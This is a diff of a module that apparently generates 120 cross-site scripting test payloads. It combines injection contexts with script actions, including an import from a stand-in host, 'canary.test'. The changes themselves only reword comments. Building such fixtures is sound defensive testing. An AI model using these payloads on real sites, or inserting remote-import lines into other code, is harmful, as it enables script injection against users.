@@ -1,5 +1,5 @@
 /*
- * What would run if a page, a letter or a data block in a page took a person's text for its own language: markup,
+ * What would run if a page, an e-mail or a data block in a page took a person's text for its own language: markup,
  * attributes, script strings, templates, styles, addresses and comments.
  */
 
@@ -48,5 +48,5 @@ const places = [
 
 const deeds = ['alert(1)', 'window.ran=1', "import('//canary.test')"];
 
-/** 120 texts, each of which runs a script where it is taken for more than text; at most 100 letters each. */
+/** 120 texts, each of which runs a script where it is taken for more than text; at most 100 characters each. */
 export const scriptPayloads = deeds.flatMap((deed) => places.map((place) => place.replaceAll('RUN', deed)));
